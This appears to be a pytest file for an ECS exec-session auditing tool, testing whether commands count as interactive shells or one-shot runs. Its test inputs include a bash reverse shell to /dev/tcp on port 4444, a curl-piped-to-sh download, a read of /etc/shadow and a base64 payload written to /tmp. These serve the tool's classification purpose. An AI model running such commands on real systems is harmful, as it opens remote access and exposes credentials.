import pytest

from ecsaudit.execsessions.commands import mode_of
from ecsaudit.execsessions.models import Mode


@pytest.mark.parametrize(
    "command",
    [
        "/bin/sh",
        "bash",
        "/bin/bash -l",
        "powershell.exe",
        "busybox sh",
        "sh -c 'echo hello; exec bash'",
        "sh -c '[ -x /bin/bash ] && exec /bin/bash || exec /bin/sh'",
        "bash -c 'bash -i >& /dev/tcp/198.51.100.201/4444 0>&1'",
        "/bin/bash -c 'echo;\necho banner;\n  bash'",
        "env TERM=xterm bash",
        "sudo su -",
        "python",
        "python manage.py shell",
        "bash -lc 'cd /app && python manage.py shell'",
        "bundle exec rails c",
        "psql -U app payments",
    ],
)
def test_what_a_person_types_into_is_interactive(command: str) -> None:
    assert mode_of(command) == Mode.SHELL


@pytest.mark.parametrize(
    "command",
    [
        "ls -la",
        "env",
        "cat /etc/shadow",
        "bash deploy.sh",
        "sh -c 'curl -s https://example.com/x | sh'",
        "sh -c ''",
        "python manage.py migrate --noinput",
        "python -c 'print(1)'",
        "psql -c 'select 1'",
        "'unclosed quote",
        "sh -c 'echo " + "A" * 60_000 + " | base64 -d > /tmp/x'",
    ],
)
def test_what_runs_and_ends_is_one_shot(command: str) -> None:
    assert mode_of(command) == Mode.ONE_SHOT


@pytest.mark.parametrize("command", ["", "   ", "\x00"])
def test_no_command_is_unknown(command: str) -> None:
    assert mode_of(command.replace("\x00", "")) == Mode.UNKNOWN


def test_shells_inside_shells_end_somewhere() -> None:
    command = "id"
    for _ in range(50):
        command = f"sh -c '{command}'"
    assert mode_of(command) in (Mode.ONE_SHOT, Mode.SHELL)
